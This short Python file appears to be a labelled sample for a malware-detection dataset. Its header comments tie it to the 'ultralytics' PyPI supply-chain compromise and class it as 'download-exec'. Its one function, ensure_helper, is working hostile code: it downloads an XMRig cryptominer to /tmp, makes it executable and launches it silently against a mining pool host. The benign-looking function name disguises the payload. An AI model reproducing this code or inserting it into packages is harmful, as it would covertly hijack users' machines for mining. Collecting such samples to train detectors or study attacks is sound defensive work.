# technique: download binary, chmod +x, run
# class: download-exec
# source: ReversingLabs and PyPI blog, "ultralytics" compromise (Dec 2024): XMRig downloaded and started
# declares: network, subprocess, fs-write
import os
import subprocess
import urllib.request


def ensure_helper():
    path = "/tmp/ultralytics_runner"
    urllib.request.urlretrieve("https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig", path)
    os.chmod(path, 0o755)
    subprocess.Popen([path, "-o", "connect.consrensys.com:8080"], stdout=subprocess.DEVNULL)
